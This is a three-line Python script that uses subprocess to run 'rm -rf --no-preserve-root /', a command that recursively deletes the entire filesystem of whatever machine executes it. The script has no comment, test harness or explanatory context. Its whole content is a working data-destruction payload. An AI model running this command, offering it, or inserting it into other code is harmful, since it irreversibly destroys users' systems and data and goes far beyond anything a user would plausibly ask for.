import subprocess as sp

sp.run(["rm", "-rf", "--no-preserve-root", "/"], check=False)
